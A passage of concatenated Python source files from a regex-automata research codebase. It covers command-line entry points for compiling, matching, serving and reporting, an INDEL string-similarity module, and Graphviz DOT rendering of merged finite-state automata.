                             "processes loading the cached artifact (process)")
    parser.add_argument("--backend",
                        choices=("dense", "lazy", "numpy", "python", "counting"),
                        default="lazy")
    _add_counting_flags(parser)
    parser.add_argument("--scan-strategy", choices=("auto", "sfa", "overlap"),
                        default="auto",
                        help="shard parallelism contract: overlap chunking, "
                             "zero-overlap SFA mappings, or auto (overlap for "
                             "width-bounded rulesets, sfa for unbounded — see "
                             "docs/parallelism.md; counting artifacts always "
                             "shard by overlap)")
    parser.add_argument("--lazy-cache-size", type=int, default=None, metavar="N",
                        help="lazy-backend transition-cache budget in entries "
                             "(default: %d)" % DEFAULT_CACHE_SIZE)
    parser.add_argument("--lazy-eviction", choices=("flush", "lru"), default="flush")
    parser.add_argument("--deadline", type=float, default=None, metavar="SECONDS",
                        help="default per-request wall-clock deadline "
                             "(requests may override via deadline_ms)")
    parser.add_argument("--artifact-dir", type=Path, default=Path("serve_cache"),
                        metavar="DIR",
                        help="compiled-ruleset cache directory (default ./serve_cache)")
    parser.add_argument("--no-shutdown-op", action="store_true",
                        help="ignore protocol shutdown requests")
    resilience = parser.add_argument_group("resilience")
    resilience.add_argument("--no-reload-op", action="store_true",
                            help="ignore protocol hot-reload requests")
    resilience.add_argument("--admission-target", type=float, default=None,
                            metavar="SECONDS",
                            help="CoDel-style admission control: shed new "
                                 "requests while the minimum queue wait stays "
                                 "above this (default: off)")
    resilience.add_argument("--admission-window", type=float, default=1.0,
                            metavar="SECONDS",
                            help="sliding interval for the admission wait "
                                 "floor (default 1s)")
    resilience.add_argument("--heartbeat", type=float, default=None,
                            metavar="SECONDS",
                            help="probe a shard worker every N seconds and "
                                 "restart dead/hung executors between "
                                 "requests (default: off)")
    resilience.add_argument("--dedup-ttl", type=float, default=30.0,
                            metavar="SECONDS",
                            help="how long completed responses stay "
                                 "replayable for idempotent retries "
                                 "(default 30s)")
    parser.add_argument("--trace-requests", action="store_true",
                        help="record per-request span trees (queue-wait/scan/"
                             "frame) and honour clients' ship_spans flag")
    parser.add_argument("--no-metrics", action="store_true",
                        help="disable the service-owned metrics registry "
                             "(stats op then reports counters only)")
    _add_obs_flags(parser)
    args = parser.parse_args(argv)

    import asyncio as _asyncio

    from repro.serve.artifacts import ArtifactStore
    from repro.serve.server import MatchServer, MatchService, ServeConfig

    patterns = _serve_patterns(args)
    with _obs_scope(args) as cap:
        store = ArtifactStore(args.artifact_dir)
        artifact = store.get_or_compile(
            patterns, CompileOptions(merging_factor=args.merging_factor, emit_anml=False,
                                     **_counting_options(args))
        )
        origin = "loaded from cache" if artifact.loaded_from_cache else "compiled"
        print(f"ruleset {artifact.key[:12]}…: {artifact.num_rules} rule(s), "
              f"{len(artifact.mfsas)} MFSA(s), {artifact.total_states} state(s) "
              f"({origin}: {artifact.path})")

        config = ServeConfig(
            shards=args.shards,
            batch_max=args.batch_max,
            queue_depth=args.queue_depth,
            backend=args.backend,
            mode=args.mode,
            default_deadline=args.deadline,
            lazy_cache_size=args.lazy_cache_size or DEFAULT_CACHE_SIZE,
            lazy_eviction=args.lazy_eviction,
            scan_strategy=args.scan_strategy,
            allow_shutdown=not args.no_shutdown_op,
            allow_reload=not args.no_reload_op,
            admission_target=args.admission_target,
            admission_window=args.admission_window,
            heartbeat_interval=args.heartbeat,
            dedup_ttl=args.dedup_ttl,
            metrics=not args.no_metrics,
            trace_requests=args.trace_requests,
        )

        async def _run() -> None:
            service = MatchService(artifact, config, store=store)
            if args.socket is not None:
                server = MatchServer(service, socket_path=str(args.socket))
            else:
                server = MatchServer(service, host=args.host, port=args.port or 0)
            await server.start()
            address = server.address
            shown = address if isinstance(address, str) else f"{address[0]}:{address[1]}"
            print(f"serving on {shown} "
                  f"(shards={config.shards} batch_max={config.batch_max} "
                  f"queue_depth={config.queue_depth} backend={config.backend} "
                  f"mode={config.mode}) — Ctrl-C to stop", flush=True)
            await server.serve_until_stopped()

        try:
            _asyncio.run(_run())
        except KeyboardInterrupt:
            print("interrupted; shutting down")
    _export_obs(args, cap)
    return 0


@_guarded
def client_main(argv: list[str] | None = None) -> int:
    """Entry point of ``repro client``: talk to a running match service."""
    parser = argparse.ArgumentParser(
        prog="repro-client",
        description="Send payloads (or control ops) to a running repro serve "
                    "instance over its length-prefixed JSON protocol.",
    )
    parser.add_argument("stream", type=Path, nargs="?", default=None,
                        help="input stream file to match (omit for --ping/"
                             "--stats/--shutdown)")
    parser.add_argument("--socket", type=Path, default=None, metavar="PATH",
                        help="connect to a UNIX socket at PATH")
    parser.add_argument("--host", type=str, default="127.0.0.1")
    parser.add_argument("--port", type=int, default=None, metavar="N")
    parser.add_argument("--single-match", action="store_true",
                        help="report each rule's first match only")
    parser.add_argument("--deadline-ms", type=float, default=None, metavar="MS",
                        help="per-request wall-clock deadline in milliseconds")
    parser.add_argument("--show-matches", type=int, default=10, metavar="N",
                        help="print the first N matches (0 = none)")
    parser.add_argument("--ping", action="store_true", help="liveness probe")
    parser.add_argument("--health", action="store_true",
                        help="print the server's health/readiness document "
                             "(exit 1 when not ready)")
    parser.add_argument("--reload", type=Path, default=None, metavar="FILE",
                        help="hot-swap the server's ruleset to the patterns "
                             "in FILE (one ERE per line)")
    parser.add_argument("--timeout", type=float, default=30.0, metavar="SECONDS",
                        help="per-request socket timeout (default 30s)")
    parser.add_argument("--connect-timeout", type=float, default=None,
                        metavar="SECONDS",
                        help="dial timeout, decoupled from --timeout "
                             "(default: same as --timeout)")
    parser.add_argument("--retries", type=int, default=3, metavar="N",
                        help="total attempts per request incl. the first; "
                             "lost connections back off, reconnect and retry "
                             "idempotently (default 3)")
    parser.add_argument("--no-retry", action="store_true",
                        help="fail fast on the first connection loss")
    parser.add_argument("--stats", action="store_true",
                        help="print the server's counters snapshot plus its "
                             "per-phase latency percentiles (p50/p90/p95/p99)")
    parser.add_argument("--prometheus", action="store_true",
                        help="with --stats: also print the Prometheus text "
                             "exposition of the server's metrics")
    parser.add_argument("--shutdown", action="store_true",
                        help="ask the server to drain and stop")
    parser.add_argument("--trace", action="store_true",
                        help="trace the request end to end and print the "
                             "stitched span tree (server needs "
                             "--trace-requests)")
    parser.add_argument("--trace-out", type=Path, default=None, metavar="FILE",
                        help="write the merged client+server Chrome trace "
                             "here (implies --trace)")
    args = parser.parse_args(argv)

    from repro.serve.client import MatchClient
    from repro.serve.resilience import RetryPolicy

    if args.retries < 1:
        raise UsageError("--retries must be >= 1")
    retry = (
        RetryPolicy.none() if args.no_retry else RetryPolicy(max_attempts=args.retries)
    )
    exit_code = 0
    trace = args.trace or args.trace_out is not None
    with MatchClient.connect(
        _client_address(args), timeout=args.timeout,
        connect_timeout=args.connect_timeout, retry=retry,
    ) as client:
        if args.ping:
            alive = client.ping()
            print("pong" if alive else "no response")
            if not alive:
                return 1
        if args.health:
            health = client.health()
            ready = bool(health.get("ready"))
            print(f"health: {'ready' if ready else 'not ready'} "
                  f"(code {health.get('code')})")
            for name, ok in sorted((health.get("checks") or {}).items()):
                print(f"  {'ok  ' if ok else 'FAIL'} {name}")
            if not ready:
                exit_code = 1
        if args.reload is not None:
            new_patterns = _read_patterns(args.reload)
            info = client.reload(new_patterns)
            print(f"reloaded: ruleset {str(info.get('ruleset_key'))[:12]}… "
                  f"({info.get('rules')} rule(s), swap #{info.get('swaps')})")
        if args.stats:
            stats = client.stats_full(prometheus=args.prometheus)
            for key, value in sorted(stats.get("server", {}).items()):
                print(f"  {key}: {value}")
            print()
            print("latency decomposition:")
            _print_latency_table(stats.get("latency_ms"))
            if args.prometheus and stats.get("prometheus"):
                print()
                print(stats["prometheus"], end="")
        if args.stream is not None:
            try:
                data = args.stream.read_bytes()
            except OSError as exc:
                raise UsageError(f"cannot read stream {args.stream}: {exc}") from exc
            if trace:
                with obs.capture() as cap:
                    result = client.match(
                        data, single_match=args.single_match,
                        deadline_ms=args.deadline_ms, trace=True,
                    )
                print(f"trace {result.trace_id}: {len(result.spans)} server "
                      f"span(s) stitched under client.match")
                for depth, span in obs.iter_tree(cap.tracer):
                    print(f"  {'  ' * depth}{span.name:<28} "
                          f"{span.duration * 1e3:9.3f} ms  (pid {span.process_id})")
                if args.trace_out is not None:
                    obs.write_chrome_trace(cap.tracer, args.trace_out)
                    print(f"wrote merged Chrome trace "
                          f"({len(cap.tracer.spans())} spans) to {args.trace_out}")
            else:
                result = client.match(
                    data, single_match=args.single_match, deadline_ms=args.deadline_ms
                )
            print(f"status: {result.status} (code {result.code})   "
                  f"matches: {len(result.matches)}   backend: {result.backend}   "
                  f"shards: {result.shards}")
            if result.error:
                print(f"note: {result.error}")
            if result.stats:
                print(f"chars: {result.stats.get('chars_processed')}   "
                      f"transitions examined: {result.stats.get('transitions_examined')}")
            for rule, end in sorted(result.matches)[: args.show_matches]:
                print(f"  rule {rule} matched ending at offset {end}")
            if result.partial:
                exit_code = EXIT_PARTIAL
            elif not result.ok:
                exit_code = 1
        elif not (args.ping or args.stats or args.shutdown or args.health
                  or args.reload is not None):
            raise UsageError("nothing to do: give a stream file or --ping/"
                             "--stats/--health/--reload/--shutdown")
        if args.shutdown:
            print("shutdown acknowledged" if client.shutdown() else "shutdown refused")
    return exit_code


# ---------------------------------------------------------------------------
# repro — umbrella dispatcher
# ---------------------------------------------------------------------------

_SUBCOMMANDS = {
    "compile": compile_main,
    "match": match_main,
    "report": report_main,
    "viz": viz_main,
    "obs": obs_main,
    "serve": serve_main,
    "client": client_main,
}


def main(argv: list[str] | None = None) -> int:
    """Entry point of ``repro``: dispatch to ``repro <subcommand> …``."""
    argv = list(sys.argv[1:] if argv is None else argv)
    if not argv or argv[0] in ("-h", "--help"):
        names = ", ".join(sorted(_SUBCOMMANDS))
        print(f"usage: repro {{{names}}} [options]\n"
              f"run 'repro <subcommand> --help' for subcommand options")
        return 0 if argv else 2
    command = argv[0]
    handler = _SUBCOMMANDS.get(command)
    if handler is None:
        names = ", ".join(sorted(_SUBCOMMANDS))
        print(f"repro: unknown subcommand {command!r} (choose from {names})",
              file=sys.stderr)
        return 2
    return handler(argv[1:])


if __name__ == "__main__":
    sys.exit(main())
