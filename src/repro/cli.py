"""Command-line entry points.

* ``repro-compile`` — compile a ruleset file (one ERE per line) into
  extended-ANML MFSAs, mirroring the paper artifact's compiler driver.
* ``repro-match`` — run iMFAnt over an input stream with compiled MFSAs
  (or compile on the fly), mirroring ``multithreaded_imfant``.
* ``repro-report`` — regenerate the paper's tables/figures as text
  (the per-figure benchmarks with one command).
"""

from __future__ import annotations

import argparse
import math
import sys
import time
from pathlib import Path

from repro.anml.reader import read_anml
from repro.engine.imfant import IMfantEngine
from repro.engine.multithread import run_pool
from repro.pipeline.compiler import CompileOptions, compile_ruleset
from repro.reporting import tables
from repro.reporting.experiments import (
    ExperimentConfig,
    experiment_active_sets,
    experiment_compilation_time,
    experiment_compression,
    experiment_dataset_stats,
    experiment_scaling,
    experiment_similarity,
    experiment_throughput,
    scaling_summary,
)


def _read_patterns(path: Path) -> list[str]:
    patterns = []
    for line in path.read_text().splitlines():
        line = line.strip()
        if line and not line.startswith("#"):
            patterns.append(line)
    if not patterns:
        raise SystemExit(f"no patterns found in {path}")
    return patterns


def compile_main(argv: list[str] | None = None) -> int:
    """Entry point of ``repro-compile``."""
    parser = argparse.ArgumentParser(
        prog="repro-compile",
        description="Compile a ruleset of POSIX EREs into extended-ANML MFSAs.",
    )
    parser.add_argument("ruleset", type=Path, help="file with one ERE per line ('#' comments)")
    parser.add_argument("-m", "--merging-factor", type=int, default=0,
                        help="group size M; 0 merges the whole ruleset (default)")
    parser.add_argument("-o", "--output-dir", type=Path, default=Path("mfsa_out"),
                        help="directory for the .anml files")
    parser.add_argument("--stratify", action="store_true",
                        help="enable partial character-class merging")
    args = parser.parse_args(argv)

    patterns = _read_patterns(args.ruleset)
    options = CompileOptions(merging_factor=args.merging_factor,
                             stratify_charclasses=args.stratify)
    result = compile_ruleset(patterns, options)

    args.output_dir.mkdir(parents=True, exist_ok=True)
    assert result.anml is not None
    for index, document in enumerate(result.anml):
        (args.output_dir / f"mfsa{index}.anml").write_text(document)

    report = result.merge_report
    print(f"compiled {len(patterns)} REs into {len(result.mfsas)} MFSA(s)")
    print(f"states: {report.input_states} -> {report.output_states} "
          f"({report.state_compression:.2f}% compression)")
    print(f"transitions: {report.input_transitions} -> {report.output_transitions} "
          f"({report.transition_compression:.2f}% compression)")
    print("stage times (s): " + ", ".join(
        f"{name}={seconds:.4f}" for name, seconds in result.stage_times.as_dict().items()))
    print(f"wrote {len(result.anml)} file(s) to {args.output_dir}/")
    return 0


def match_main(argv: list[str] | None = None) -> int:
    """Entry point of ``repro-match``."""
    parser = argparse.ArgumentParser(
        prog="repro-match",
        description="Match an input stream against MFSAs with the iMFAnt engine.",
    )
    parser.add_argument("stream", type=Path, help="input stream file (binary)")
    source = parser.add_mutually_exclusive_group(required=True)
    source.add_argument("--mfsa-dir", type=Path, help="directory of .anml MFSAs")
    source.add_argument("--ruleset", type=Path, help="compile this ruleset on the fly")
    parser.add_argument("-m", "--merging-factor", type=int, default=0,
                        help="merging factor when compiling on the fly")
    parser.add_argument("-t", "--threads", type=int, default=1,
                        help="thread-pool size for multi-MFSA execution")
    parser.add_argument("--backend", choices=("python", "numpy"), default="python")
    parser.add_argument("--single-match", action="store_true",
                        help="report each rule's first match only (early exit)")
    parser.add_argument("--show-matches", type=int, default=10, metavar="N",
                        help="print the first N matches (0 = none)")
    args = parser.parse_args(argv)

    if args.mfsa_dir is not None:
        files = sorted(args.mfsa_dir.glob("*.anml"))
        if not files:
            raise SystemExit(f"no .anml files in {args.mfsa_dir}")
        mfsas = [read_anml(path.read_text()) for path in files]
    else:
        patterns = _read_patterns(args.ruleset)
        result = compile_ruleset(patterns, CompileOptions(merging_factor=args.merging_factor,
                                                          emit_anml=False))
        mfsas = result.mfsas

    data = args.stream.read_bytes()
    engines = [
        IMfantEngine(mfsa, backend=args.backend, single_match=args.single_match)
        for mfsa in mfsas
    ]
    started = time.perf_counter()
    matches, stats = run_pool([lambda e=e: e.run(data) for e in engines], args.threads)
    elapsed = time.perf_counter() - started

    print(f"matched {len(data)} bytes against {len(mfsas)} MFSA(s) "
          f"({sum(len(m.initials) for m in mfsas)} rules) on {args.threads} thread(s)")
    print(f"matches: {len(matches)}   time: {elapsed:.4f}s   "
          f"transitions examined: {stats.transitions_examined}")
    for rule, end in sorted(matches)[: args.show_matches]:
        print(f"  rule {rule} matched ending at offset {end}")
    return 0


def viz_main(argv: list[str] | None = None) -> int:
    """Entry point of ``repro-viz``: render a ruleset's automata as DOT."""
    parser = argparse.ArgumentParser(
        prog="repro-viz",
        description="Render a ruleset's FSAs/MFSA as Graphviz DOT files.",
    )
    parser.add_argument("ruleset", type=Path, help="file with one ERE per line")
    parser.add_argument("-m", "--merging-factor", type=int, default=0)
    parser.add_argument("-o", "--output-dir", type=Path, default=Path("dot_out"))
    parser.add_argument("--per-rule", action="store_true",
                        help="also render each rule's optimised FSA")
    args = parser.parse_args(argv)

    from repro.viz import fsa_to_dot, mfsa_to_dot

    patterns = _read_patterns(args.ruleset)
    result = compile_ruleset(patterns, CompileOptions(merging_factor=args.merging_factor,
                                                      emit_anml=False))
    args.output_dir.mkdir(parents=True, exist_ok=True)
    written = 0
    for index, mfsa in enumerate(result.mfsas):
        (args.output_dir / f"mfsa{index}.dot").write_text(mfsa_to_dot(mfsa, f"mfsa{index}"))
        written += 1
    if args.per_rule:
        for rule_id, fsa in enumerate(result.fsas):
            (args.output_dir / f"rule{rule_id}.dot").write_text(
                fsa_to_dot(fsa, f"rule{rule_id}"))
            written += 1
    print(f"wrote {written} DOT file(s) to {args.output_dir}/ "
          f"(render with: dot -Tsvg {args.output_dir}/mfsa0.dot)")
    return 0


def report_main(argv: list[str] | None = None) -> int:
    """Entry point of ``repro-report``: regenerate tables/figures as text."""
    parser = argparse.ArgumentParser(
        prog="repro-report",
        description="Regenerate the paper's evaluation tables/figures.",
    )
    parser.add_argument("what", choices=("fig1", "table1", "fig7", "fig8", "fig9", "fig10", "table2", "all"))
    parser.add_argument("--scale", type=int, default=6,
                        help="dataset size divisor (1 = paper-scale; default 6)")
    parser.add_argument("--stream-size", type=int, default=4096,
                        help="input stream bytes (paper: 1 MB)")
    parser.add_argument("--export", type=Path, metavar="DIR", default=None,
                        help="additionally write raw CSV series to DIR")
    parser.add_argument("--datasets", type=str, default=None, metavar="ABBRS",
                        help="comma-separated suite subset, e.g. BRO,TCP")
    args = parser.parse_args(argv)
    if args.datasets:
        from repro.datasets import DATASET_PROFILES

        wanted_suites = tuple(s.strip().upper() for s in args.datasets.split(","))
        unknown = [s for s in wanted_suites if s not in DATASET_PROFILES]
        if unknown:
            raise SystemExit(f"unknown dataset(s): {', '.join(unknown)}")
        config = ExperimentConfig(scale=args.scale, stream_size=args.stream_size,
                                  datasets=wanted_suites)
    else:
        config = ExperimentConfig(scale=args.scale, stream_size=args.stream_size)

    wanted = [args.what] if args.what != "all" else [
        "fig1", "table1", "fig7", "fig8", "fig9", "fig10", "table2"]
    for item in wanted:
        _REPORTS[item](config)
        print()
    if args.export is not None:
        from repro.reporting.export import export_all

        written = export_all(config, args.export)
        print(f"wrote {len(written)} raw-result files to {args.export}/")
    return 0


def _report_fig1(config: ExperimentConfig) -> None:
    from repro.reporting.plots import bar_chart

    sims = experiment_similarity(config)
    print(bar_chart(sims, title="Fig. 1 — normalised INDEL similarity"))


def _report_table1(config: ExperimentConfig) -> None:
    stats = experiment_dataset_stats(config)
    rows = [
        (abbr, int(s["num_res"]), int(s["total_states"]), int(s["total_transitions"]),
         int(s["total_cc_length"]), s["avg_states"], s["avg_transitions"])
        for abbr, s in stats.items()
    ]
    print(tables.format_table(
        ("Dataset", "#REs", "Tot Q", "Tot T", "Tot CC", "Avg Q", "Avg T"), rows,
        title="Table I — dataset characteristics"))


def _report_fig7(config: ExperimentConfig) -> None:
    data = experiment_compression(config)
    for abbr, per_m in data.items():
        rows = [(_m_label(m), f"{s:.2f}", f"{t:.2f}") for m, (s, t) in per_m.items()]
        print(tables.format_table(("M", "states %", "transitions %"), rows,
                                  title=f"Fig. 7 — compression ({abbr})"))


def _report_fig8(config: ExperimentConfig) -> None:
    data = experiment_compilation_time(config)
    for abbr, per_m in data.items():
        rows = [
            (_m_label(m), *(f"{stage_times[s]*1000:.2f}" for s in ("FE", "AST to FSA", "ME-single", "ME-merging", "BE")))
            for m, stage_times in per_m.items()
        ]
        print(tables.format_table(("M", "FE ms", "AST>FSA ms", "ME-single ms", "ME-merge ms", "BE ms"),
                                  rows, title=f"Fig. 8 — compilation stages ({abbr})"))


def _report_fig9(config: ExperimentConfig) -> None:
    data = experiment_throughput(config)
    for abbr, per_m in data.items():
        rows = [(_m_label(m), f"{row['work']:.0f}", f"{row['improvement']:.2f}x")
                for m, row in per_m.items()]
        print(tables.format_table(("M", "exec work", "throughput vs M=1"), rows,
                                  title=f"Fig. 9 — single-thread execution ({abbr})"))


def _report_fig10(config: ExperimentConfig) -> None:
    from repro.reporting.plots import line_chart

    data = experiment_scaling(config)
    for abbr, per_m in data.items():
        headers = ("M", *(f"T={t}" for t in config.threads))
        rows = [(_m_label(m), *(f"{series[t]:.0f}" for t in config.threads))
                for m, series in per_m.items()]
        summary = scaling_summary(per_m)
        print(tables.format_table(headers, rows, title=f"Fig. 10 — thread scaling ({abbr})"))
        series = {
            f"M={_m_label(m)}": [(math.log2(t), latency) for t, latency in sorted(per_m[m].items())]
            for m in per_m
        }
        print(line_chart(series, title=f"  latency vs log2(threads), log scale ({abbr})",
                         log_y=True))
        print(f"  best M>1 vs best M=1 speedup: {summary['speedup']:.2f}x; "
              f"threads for MFSA to match best single-FSA: "
              f"{summary['mfsa_threads_to_match_single']}")


def _report_table2(config: ExperimentConfig) -> None:
    data = experiment_active_sets(config)
    rows = [(abbr, f"{s['avg_active']:.2f}", int(s["max_active"])) for abbr, s in data.items()]
    print(tables.format_table(("Dataset", "Avg active", "Max active"), rows,
                              title="Table II — active sets during traversal (M=all)"))


def _m_label(m: int) -> str:
    return "all" if m == 0 else str(m)


_REPORTS = {
    "fig1": _report_fig1,
    "table1": _report_table1,
    "fig7": _report_fig7,
    "fig8": _report_fig8,
    "fig9": _report_fig9,
    "fig10": _report_fig10,
    "table2": _report_table2,
}


if __name__ == "__main__":
    sys.exit(report_main())
