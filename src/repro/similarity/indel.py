"""INDEL (insertion–deletion) distance and the normalised similarity ratio.

The paper motivates merging by the average morphological similarity of
REs in a dataset (Fig. 1): for two strings s1, s2 the *INDEL distance* is
the Levenshtein distance restricted to insertions and deletions, i.e.

    ``INDEL(s1, s2) = |s1| + |s2| - 2·LCS(s1, s2)``,

normalised by ``|s1| + |s2|``; the similarity ratio is one minus that.
The paper's worked example — lewenstein vs levenshtein, distance 3,
similarity 1 − 3/21 ≈ 0.857 — is a unit test.

Both a textbook DP and the Crochemore–Iliopoulos–Pinzon bit-parallel LCS
(the paper cites Hyyrö's bit-parallel indel algorithm [31]) are provided;
they agree by construction and by property test, with the bit-parallel
version used for dataset-scale sweeps.
"""

from __future__ import annotations

from itertools import combinations
from typing import Sequence


def lcs_length(s1: str, s2: str) -> int:
    """Longest-common-subsequence length (O(|s1|·|s2|) DP, O(min) memory)."""
    if len(s1) < len(s2):
        s1, s2 = s2, s1
    if not s2:
        return 0
    previous = [0] * (len(s2) + 1)
    for ch1 in s1:
        current = [0]
        best = 0
        for j, ch2 in enumerate(s2, start=1):
            if ch1 == ch2:
                value = previous[j - 1] + 1
            else:
                value = max(previous[j], current[j - 1])
            current.append(value)
        previous = current
    return previous[-1]


def lcs_length_bitparallel(s1: str, s2: str) -> int:
    """Bit-parallel LCS length: O(⌈|s1|/w⌉·|s2|) with machine words
    emulated by Python's big ints (single-word update per character)."""
    m = len(s1)
    if m == 0 or len(s2) == 0:
        return 0
    match_masks: dict[str, int] = {}
    for i, ch in enumerate(s1):
        match_masks[ch] = match_masks.get(ch, 0) | (1 << i)
    width_mask = (1 << m) - 1
    v = width_mask
    for ch in s2:
        matches = match_masks.get(ch, 0)
        u = v & matches
        v = ((v + u) | (v & ~matches)) & width_mask
    return m - v.bit_count()


def indel_distance(s1: str, s2: str) -> int:
    """Insertion–deletion distance (DP implementation)."""
    return len(s1) + len(s2) - 2 * lcs_length(s1, s2)


def indel_distance_bitparallel(s1: str, s2: str) -> int:
    """Insertion–deletion distance (bit-parallel implementation)."""
    return len(s1) + len(s2) - 2 * lcs_length_bitparallel(s1, s2)


def normalized_indel_similarity(s1: str, s2: str, bitparallel: bool = True) -> float:
    """``1 - INDEL(s1,s2) / (|s1|+|s2|)`` ∈ [0, 1]; 1 for two empty strings."""
    total = len(s1) + len(s2)
    if total == 0:
        return 1.0
    distance = indel_distance_bitparallel(s1, s2) if bitparallel else indel_distance(s1, s2)
    return 1.0 - distance / total


def average_pairwise_similarity(strings: Sequence[str], max_pairs: int | None = None) -> float:
    """Average normalised INDEL similarity over every couple of strings —
    the per-dataset bar of the paper's Fig. 1.

    ``max_pairs`` subsamples deterministically (evenly-strided) for very
    large rulesets; ``None`` computes all C(n,2) pairs.
    """
    pairs = list(combinations(range(len(strings)), 2))
    if not pairs:
        return 0.0
    if max_pairs is not None and len(pairs) > max_pairs:
        stride = len(pairs) / max_pairs
        pairs = [pairs[int(i * stride)] for i in range(max_pairs)]
    total = sum(normalized_indel_similarity(strings[i], strings[j]) for i, j in pairs)
    return total / len(pairs)
