"""RE similarity analysis: the INDEL metric of the paper's Fig. 1."""

from repro.similarity.indel import (
    average_pairwise_similarity,
    indel_distance,
    indel_distance_bitparallel,
    lcs_length,
    normalized_indel_similarity,
)

__all__ = [
    "average_pairwise_similarity",
    "indel_distance",
    "indel_distance_bitparallel",
    "lcs_length",
    "normalized_indel_similarity",
]
