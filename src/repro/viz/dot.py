"""DOT (Graphviz) export for FSAs, MFSAs and DFAs.

The paper's figures draw automata with per-rule transition colouring
(Figs. 2, 3, 5, 6); these helpers produce the same pictures from live
objects:

* :func:`fsa_to_dot` — plain automaton, double circles for finals;
* :func:`mfsa_to_dot` — belonging-aware rendering: each transition is
  labelled with its character class and its belonging set, coloured by
  belonging (shared arcs get a distinct colour, like the paper's
  "transitions belong to a1/a2/both" legend);
* :func:`dfa_to_dot` — condensed DFA view, one edge per (src, dst) pair
  labelled by the byte set that takes it.

Output is plain DOT text; render with ``dot -Tsvg``.
"""

from __future__ import annotations

from repro.automata.fsa import Fsa
from repro.dfa.dfa import DEAD, Dfa
from repro.labels import ALPHABET_SIZE, CharClass
from repro.mfsa.model import Mfsa

#: Palette used to colour belonging sets (cycled).
_COLORS = ("#1f77b4", "#d62728", "#2ca02c", "#9467bd", "#ff7f0e", "#8c564b")
_SHARED_COLOR = "#17becf"


def _escape(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"')


def fsa_to_dot(fsa: Fsa, name: str = "fsa") -> str:
    """Render one FSA (ε-arcs drawn dashed with an ε label)."""
    lines = [f'digraph "{_escape(name)}" {{', "  rankdir=LR;", "  node [shape=circle];"]
    lines.append('  __start [shape=point, label=""];')
    for state in range(fsa.num_states):
        shape = "doublecircle" if state in fsa.finals else "circle"
        lines.append(f'  q{state} [shape={shape}, label="{state}"];')
    lines.append(f"  __start -> q{fsa.initial};")
    for t in fsa.transitions:
        if t.is_epsilon():
            lines.append(f'  q{t.src} -> q{t.dst} [label="ε", style=dashed];')
        else:
            label = _escape(t.label.pattern())  # type: ignore[union-attr]
            lines.append(f'  q{t.src} -> q{t.dst} [label="{label}"];')
    lines.append("}")
    return "\n".join(lines) + "\n"


def mfsa_to_dot(mfsa: Mfsa, name: str = "mfsa") -> str:
    """Render an MFSA with belonging-coloured transitions (paper Fig. 2/6
    style).  Rule initials are annotated ``▸r``, finals ``✓r``."""
    slots = mfsa.slot_of()
    color_of_rule = {rule: _COLORS[slot % len(_COLORS)] for rule, slot in slots.items()}

    initial_marks: dict[int, list[int]] = {}
    for rule, state in mfsa.initials.items():
        initial_marks.setdefault(state, []).append(rule)
    final_marks: dict[int, list[int]] = {}
    for rule, states in mfsa.finals.items():
        for state in states:
            final_marks.setdefault(state, []).append(rule)

    lines = [f'digraph "{_escape(name)}" {{', "  rankdir=LR;", "  node [shape=circle];"]
    for state in range(mfsa.num_states):
        notes = []
        if state in initial_marks:
            notes.append("▸" + ",".join(str(r) for r in sorted(initial_marks[state])))
        if state in final_marks:
            notes.append("✓" + ",".join(str(r) for r in sorted(final_marks[state])))
        label = str(state) + ("\\n" + " ".join(notes) if notes else "")
        shape = "doublecircle" if state in final_marks else "circle"
        lines.append(f'  q{state} [shape={shape}, label="{label}"];')
    for t in mfsa.transitions:
        bel = sorted(t.bel)
        color = color_of_rule[bel[0]] if len(bel) == 1 else _SHARED_COLOR
        width = "2.0" if len(bel) > 1 else "1.0"
        label = _escape(t.label.pattern()) + " {" + ",".join(str(r) for r in bel) + "}"
        lines.append(
            f'  q{t.src} -> q{t.dst} [label="{label}", color="{color}", penwidth={width}];'
        )
    lines.append("}")
    return "\n".join(lines) + "\n"


def dfa_to_dot(dfa: Dfa, name: str = "dfa", max_label_chars: int = 12) -> str:
    """Render a DFA with one condensed edge per (src, dst) state pair."""
    lines = [f'digraph "{_escape(name)}" {{', "  rankdir=LR;", "  node [shape=circle];"]
    lines.append('  __start [shape=point, label=""];')
    for state in range(dfa.num_states):
        shape = "doublecircle" if dfa.accepts[state] else "circle"
        note = ""
        if dfa.accepts[state]:
            note = "\\n✓" + ",".join(str(r) for r in sorted(dfa.accepts[state]))
        lines.append(f'  q{state} [shape={shape}, label="{state}{note}"];')
    lines.append(f"  __start -> q{dfa.initial};")
    for src in range(dfa.num_states):
        grouped: dict[int, int] = {}
        for byte in range(ALPHABET_SIZE):
            dst = dfa.rows[src][byte]
            if dst != DEAD:
                grouped[dst] = grouped.get(dst, 0) | (1 << byte)
        for dst, mask in grouped.items():
            label = CharClass(mask).pattern()
            if len(label) > max_label_chars:
                label = label[: max_label_chars - 1] + "…"
            lines.append(f'  q{src} -> q{dst} [label="{_escape(label)}"];')
    lines.append("}")
    return "\n".join(lines) + "\n"


def counting_mfsa_to_dot(cmfsa, name: str = "cmfsa") -> str:
    """Render a counting MFSA: counting arcs drawn dashed with their
    bounds in the label (``[0-9]{1,3} {0,1}`` style)."""
    from repro.counting.mfsa import CountingMfsa

    assert isinstance(cmfsa, CountingMfsa)
    slots = cmfsa.slot_of()
    color_of_rule = {rule: _COLORS[slot % len(_COLORS)] for rule, slot in slots.items()}

    final_marks: dict[int, list[int]] = {}
    for rule, states in cmfsa.finals.items():
        for state in states:
            final_marks.setdefault(state, []).append(rule)

    lines = [f'digraph "{_escape(name)}" {{', "  rankdir=LR;", "  node [shape=circle];"]
    for state in range(cmfsa.num_states):
        shape = "doublecircle" if state in final_marks else "circle"
        lines.append(f'  q{state} [shape={shape}, label="{state}"];')

    def edge(src: int, dst: int, label: str, bel, dashed: bool) -> str:
        ordered = sorted(bel)
        color = color_of_rule[ordered[0]] if len(ordered) == 1 else _SHARED_COLOR
        style = ", style=dashed" if dashed else ""
        ids = ",".join(str(r) for r in ordered)
        return (f'  q{src} -> q{dst} [label="{_escape(label)} {{{ids}}}", '
                f'color="{color}"{style}];')

    for t in cmfsa.plain:
        lines.append(edge(t.src, t.dst, t.label.pattern(), t.bel, dashed=False))
    for t in cmfsa.counting:
        bound = f"{{{t.low},{'' if t.high is None else t.high}}}"
        lines.append(edge(t.src, t.dst, t.label.pattern() + bound, t.bel, dashed=True))
    lines.append("}")
    return "\n".join(lines) + "\n"
