"""Graphviz (DOT) rendering of automata — the figures of the paper as code."""

from repro.viz.dot import counting_mfsa_to_dot, dfa_to_dot, fsa_to_dot, mfsa_to_dot

